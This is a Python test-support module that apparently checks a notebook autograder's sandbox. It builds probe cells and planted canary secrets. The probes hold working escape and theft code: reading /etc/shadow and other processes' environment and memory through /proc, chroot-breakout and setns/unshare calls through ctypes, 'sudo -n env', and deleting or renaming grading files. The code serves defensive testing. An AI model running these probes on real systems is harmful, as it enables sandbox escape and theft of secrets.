"""Cells that look for secrets outside their own folder, print all they find, and send it away; and the secrets to be found.

Each probe knows where everything stands, so that only a wall can keep it out. What it prints would land in `autograded/`.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

from attrs import field, frozen

DONE = "the probe has ended"
# Only what looks like a secret is printed, once: a graded notebook keeps a thousand lines of what a cell shows.
_KEEP = """\
import os, re, sys

told = set()
def say(*what):
    if len(told) < 300 and what not in told:
        told.add(what)
        print(*what)
def keep(what):
    text = what.decode('utf-8', 'replace') if isinstance(what, bytes) else str(what)
    for found in re.findall(r'(?:geheim-|uitwerking-|verborgen-toets-)[a-z]*-?[0-9a-f]+|BEGIN [S]OLUTION', text):
        say('FOUND', found)
def read(path):
    try:
        with open(path, 'rb') as file:
            keep(file.read(300_000))
    except Exception as error:
        say(type(error).__name__, path)
places = {places!r}
"""
FILES = """\
for place in places:
    read(place)
    for folder, folders, names in os.walk(place):
        for name in names[:50]:
            read(os.path.join(folder, name))
for place in ('/root', '/home', '/etc/shadow', os.path.expanduser('~'), '..', '../..', '/proc/1/root', '/proc/self/root'):
    try:
        say(place, len(os.listdir(place)))
    except Exception as error:
        say(type(error).__name__, place)
seen = 0
for folder, folders, names in os.walk('/'):
    folders[:] = [each for each in folders if os.path.join(folder, each) not in ('/proc', '/sys', '/usr', '/lib')]
    for name in names:
        if name in ('gradebook.db', '.geheim', 'nbgrader_config.py') or (name.endswith('.ipynb') and 'site-packages' not in folder):
            read(os.path.join(folder, name))
    seen += 1
    if seen > 5_000:
        break
keep(dict(os.environ))
keep(sys.argv)
"""
LIBC = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
held = ctypes.create_string_buffer(300_000)
for place in places:
    fd = libc.open(place.encode(), 0)
    if fd >= 0:
        got = libc.read(fd, held, 300_000)
        if got > 0:
            keep(held.raw[:got])
for fd in range(256):
    try:
        if os.path.isfile(f'/proc/self/fd/{{fd}}'):
            read(f'/proc/self/fd/{{fd}}')
    except OSError:
        pass
# Out of the wall again, by every door that a process with rights could open.
for flags in (0x10000000, 0x00020000, 0x20000000):
    libc.unshare(flags)
if os.getpid() < 20:  # never on a tester's own machine: behind the wall a process has a low number
    libc.umount2(b'/', 2)
    libc.mount(b'proc', b'/proc', b'proc', 0, None)
    libc.mount(b'none', b'/', None, 0x1000 | 0x20, None)
libc.chroot(b'.')
for _ in range(40):
    libc.chdir(b'..')
libc.chroot(b'.')
for pid in range(1, 60):
    for name in ('mnt', 'user', 'pid', 'net'):
        fd = libc.open(f'/proc/{{pid}}/ns/{{name}}'.encode(), 0)
        if fd >= 0:
            libc.setns(fd, 0)
for place in places:
    fd = libc.open(place.encode(), 0)
    if fd >= 0:
        got = libc.read(fd, held, 300_000)
        if got > 0:
            keep(held.raw[:got])
"""
PROC = """\
pids = [name for name in os.listdir('/proc') if name.isdigit()] if os.path.isdir('/proc') else []
for pid in {{*pids, 'self', str(os.getppid()), *map(str, {pids!r})}}:
    for name in ('environ', 'cmdline', 'status', 'maps', 'cwd/nbgrader_config.py', 'cwd/gradebook.db', 'root/etc/hostname'):
        read(f'/proc/{{pid}}/{{name}}')
for pid in {{str(os.getppid()), '1', '2', '3', *map(str, {pids!r})}}:
    try:
        with open(f'/proc/{{pid}}/maps') as maps, open(f'/proc/{{pid}}/mem', 'rb', 0) as memory:
            if int(pid) == os.getpid():
                continue
            for line in maps:
                begin, end = (int(each, 16) for each in line.split()[0].split('-'))
                if 'r' in line.split()[1] and end - begin < 50_000_000:
                    memory.seek(begin)
                    held = memory.read(end - begin)
                    at = held.find(b'geheim-')
                    while at >= 0:
                        keep(held[at:at + 60])
                        at = held.find(b'geheim-', at + 1)
    except Exception as error:
        say(type(error).__name__, pid)
    try:
        for fd in os.listdir(f'/proc/{{pid}}/fd'):
            if os.path.isfile(f'/proc/{{pid}}/fd/{{fd}}'):
                read(f'/proc/{{pid}}/fd/{{fd}}')
    except Exception as error:
        say(type(error).__name__, pid)
for pid in {pids!r}:
    try:
        os.kill(pid, 0)
        say('FOUND', 'geheim-process can be reached')
    except Exception as error:
        say(type(error).__name__, pid)
"""
NETWORK = """\
import socket
def talk(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as made:
            made.settimeout(0.5)
            made.connect(address)
            made.sendall(b'the probe was here')
            keep(made.recv(1000))
    except Exception as error:
        say(type(error).__name__, address)
for host in ('127.0.0.1', 'localhost', '0.0.0.0', {host!r}):
    talk(socket.AF_INET, (host, {port}))
talk(socket.AF_INET6, ('::1', {port}))
talk(socket.AF_UNIX, '\\0' + {abstract!r})
talk(socket.AF_UNIX, {unix!r})
try:
    import urllib.request
    keep(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=0.5).read())
except Exception as error:
    say(type(error).__name__)
"""
WRITES = """\
for place in {writable!r}:
    try:
        with open(os.path.join(place, '{marker}'), 'a') as file:
            file.write('# {marker}')
        say('wrote', place)
    except Exception as error:
        say(type(error).__name__, place)
for place in {spoilable!r}:
    try:
        with open(place, 'a') as file:
            file.write('# {marker}')
        say('wrote', place)
    except Exception as error:
        say(type(error).__name__, place)
    for act in (os.remove, os.rmdir, lambda path: os.chmod(path, 0), lambda path: os.rename(path, path + '.{marker}')):
        try:
            act(place)
        except Exception as error:
            say(type(error).__name__, place)
"""
PROCESSES = """\
import subprocess
for place in places:
    try:
        keep(subprocess.run(['cat', place], capture_output=True, timeout=1).stdout)
    except Exception as error:
        say(type(error).__name__, place)
for words in (['env'], ['ps', 'axeww'], ['mount'], ['id'], ['sudo', '-n', 'env'], ['su', '-c', 'env']):
    try:
        keep(subprocess.run(words, capture_output=True, timeout=1, stdin=subprocess.DEVNULL).stdout)
    except Exception as error:
        say(type(error).__name__, words[0])
try:
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(100_000)', '{marker}'], start_new_session=True)
except Exception as error:
    say(type(error).__name__)
"""
_END = f"\nprint({DONE!r})\n"


def _token(name: str) -> str:
    return f"geheim-{name}-{secrets.token_hex(6)}"


@frozen
class Secrets:
    """What may not be found, by where it stands; each is a text that occurs nowhere else."""

    environment: str = field(factory=lambda: _token("omgeving"))
    home: str = field(factory=lambda: _token("thuis"))
    gradebook: str = field(factory=lambda: _token("cijferboek"))
    neighbour: str = field(factory=lambda: _token("buurman"))
    process: str = field(factory=lambda: _token("proces"))
    network: str = field(factory=lambda: _token("netwerk"))
    marker: str = field(factory=lambda: f"merk-{secrets.token_hex(6)}")


@frozen
class Surroundings:
    """Where the secrets stand, what is tried to be read, and where something is tried to be written."""

    course: Path
    home: Path
    places: list[Path]
    writable: list[Path]
    pids: tuple[int, ...]
    port: int
    abstract: str
    unix: Path
    heard: list[bytes]


def probes(around: Surroundings, planted: Secrets) -> dict[str, str]:
    """Return the source of each probe by name."""
    told = {
        "pids": (*around.pids, os.getpid(), os.getppid()),
        "port": around.port,
        "host": _own_address(),
        "abstract": around.abstract,
        "unix": str(around.unix),
        "marker": planted.marker,
        "writable": [str(each) for each in around.writable],
        "spoilable": [
            str(around.course / "nbgrader_config.py"),
            str(around.course / "source"),
            str(around.home / ".geheim"),
        ],
    }
    begin = _KEEP.format(places=[str(each) for each in around.places])
    bodies = {
        "files": FILES, "libc": LIBC.format(), "proc": PROC.format(**told), "network": NETWORK.format(**told),
        "writes": WRITES.format(**told), "processes": PROCESSES.format(**told),
    }  # fmt: skip
    return {f"probe-{name}": begin + body + _END for name, body in bodies.items()}


def _own_address() -> str:
    """Return this machine's address in its network, without sending anything."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        try:
            made.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(made.getsockname()[0])


@contextlib.contextmanager
def planted_process(planted: Secrets) -> Iterator[int]:
    """Run a process of the same user that holds a secret in its environment, command line and memory."""
    code = "import sys, time; held = 'x' + sys.argv[1] + 'y'; print('ready', flush=True); time.sleep(3600)"
    with subprocess.Popen(
        [sys.executable, "-c", code, planted.process],
        env={**os.environ, "GEHEIM": planted.process},
        stdout=subprocess.PIPE,
    ) as started:
        assert started.stdout is not None
        assert started.stdout.readline().strip() == b"ready"
        try:
            yield started.pid
        finally:
            started.kill()


@contextlib.contextmanager
def listening(folder: Path, planted: Secrets) -> Iterator[tuple[int, str, Path, list[bytes]]]:
    """Serve a secret on every kind of socket of this machine, and keep what is sent to it."""
    heard: list[bytes] = []
    abstract, unix = planted.marker, folder / "s"
    made = [socket.socket(socket.AF_INET), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    made[0].bind(("0.0.0.0", 0))
    made[1].bind("\0" + abstract)
    made[2].bind(str(unix))
    threads = [threading.Thread(target=_serve, args=(each, planted.network, heard), daemon=True) for each in made]
    for each, thread in zip(made, threads, strict=True):
        each.listen()
        thread.start()
    try:
        yield made[0].getsockname()[1], abstract, unix, heard
    finally:
        for each in made:
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
            each.close()
        for thread in threads:
            thread.join(timeout=5)


def _serve(made: socket.socket, secret: str, heard: list[bytes]) -> None:
    while True:
        try:
            peer, _ = made.accept()
        except OSError:
            return
        with peer:
            peer.settimeout(1)
            heard.append(b"(connected)")
            with contextlib.suppress(OSError):
                peer.sendall(secret.encode())
                heard.append(peer.recv(100_000))
